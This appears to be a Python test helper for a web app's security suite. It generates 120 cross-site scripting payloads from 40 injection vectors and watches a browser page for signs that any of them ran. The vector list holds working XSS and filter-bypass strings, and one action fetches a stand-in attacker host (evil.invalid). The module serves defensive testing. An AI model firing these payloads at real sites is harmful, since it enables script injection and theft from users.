"""Texts that run a script where a page takes them for markup, and what shows that one did.

Each payload says its number when it runs: in a dialog, in a variable of the window, or in a request to a host that is
not there. `watch` collects all three, and what the page's content security policy had to stop: a payload that got that
far was taken for markup, too.
"""

from __future__ import annotations

from collections.abc import Callable
from typing import Any
from urllib.parse import urlsplit

VECTORS = (
    "<script>{}</script>",
    "</script><script>{}</script>",
    "<ScRiPt >{}</sCrIpT>",
    "<img src=x onerror={}>",
    "<img src=x onerror='{}'//>",
    "<svg onload={}>",
    "<svg><script>{}</script></svg>",
    "<svg><animate onbegin={} attributeName=x dur=1s>",
    "<math><mtext><script>{}</script></mtext></math>",
    "<body onload={}>",
    "<iframe srcdoc='<script>parent.{}</script>'></iframe>",
    "<iframe src=\"javascript:parent.{}\"></iframe>",
    "<details open ontoggle={}>x</details>",
    "<input autofocus onfocus={}>",
    "<video><source onerror={}></video>",
    "<audio src=x onerror={}>",
    "<object data=\"javascript:{}\"></object>",
    "<a href=\"javascript:{}\" autofocus>click</a>",
    "<form action=\"javascript:{}\"><button autofocus>x</button></form>",
    "<meta http-equiv=refresh content=\"0;url=javascript:{}\">",
    "<style>@import 'javascript:{}';</style>",
    "<marquee onstart={}>x</marquee>",
    "\" onmouseover=\"{}\" autofocus onfocus=\"{}\" x=\"",
    "' onfocus='{}' autofocus x='",
    "\"><script>{}</script>",
    "'><script>{}</script>",
    "--><script>{}</script><!--",
    "]]><script>{}</script>",
    "</title><script>{}</script>",
    "</textarea><script>{}</script>",
    "</style><script>{}</script>",
    "</pre><script>{}</script>",
    "</template><script>{}</script>",
    "<noscript><p title=\"</noscript><img src=x onerror={}>\">",
    "&lt;script&gt;{}&lt;/script&gt;<script>{}</script>",
    "javascript:{}",
    "data:text/html,<script>{}</script>",
    "{{{{constructor.constructor('{}')()}}}}",
    "<div hx-on:htmx:load=\"{}\" hx-get=/ hx-trigger=load>x</div>",
    "<template shadowrootmode=open><img src=x onerror={}></template>",
)  # fmt: skip
ACTIONS = ("alert({0})", "window.ran={0}", "fetch(`//evil.invalid/{0}`)")
PAYLOADS = tuple(
    vector.format(action.format(number), action.format(number))
    for number, (vector, action) in enumerate((vector, action) for vector in VECTORS for action in ACTIONS)
)
"""120 of them, three for each way into a page."""


class Ran:
    """What payloads did to a page of a browser."""

    def __init__(self, page: Any, address: str) -> None:
        self.signs: list[str] = []
        self._page, self._host = page, urlsplit(address).netloc
        page.on("dialog", self._dialog)
        page.on("request", self._request)
        page.on("console", self._console)

    def visit(self, url: str, settle: Callable[[Any], None]) -> int:
        """The status of a page, after everything on it was loaded and touched."""
        answer = self._page.goto(url)
        settle(self._page)
        ran = self._page.evaluate("window.ran")
        if ran is not None:
            self.signs.append(f"{url}: payload {ran} ran")
        # A tag that only a payload has.
        tags = "iframe, object, marquee, math, video, audio, body script, [onerror], [onload], [onfocus], [srcdoc]"
        found = self._page.evaluate(f"[...document.querySelectorAll('{tags}')].map((one) => one.outerHTML)")
        own = [text for text in found if not _ours(text)]
        if own:
            self.signs.append(f"{url}: {own[:2]}")
        links = "[...document.querySelectorAll('a[href], form[action]')].map((one) => one.href || one.action)"
        bad = [text for text in self._page.evaluate(links) if str(text).lower().startswith(("javascript:", "data:"))]
        if bad:
            self.signs.append(f"{url}: links to {bad[:2]}")
        return int(answer.status)

    def _dialog(self, dialog: Any) -> None:
        self.signs.append(f"{self._page.url}: a dialog of payload {dialog.message}")
        dialog.dismiss()

    def _request(self, request: Any) -> None:
        parts = urlsplit(request.url)
        if parts.scheme not in ("data", "blob") and parts.netloc != self._host:
            self.signs.append(f"{self._page.url}: a request to {request.url}")

    def _console(self, message: Any) -> None:
        if "CSP:" in message.text or "Content Security Policy" in message.text:
            self.signs.append(f"{self._page.url}: {message.text}")


def _ours(tag: str) -> bool:
    """Whether a script is one of the page's own: from its files, with nothing in it."""
    return tag.startswith("<script") and 'src="' in tag.partition(">")[0] and "></script>" in tag
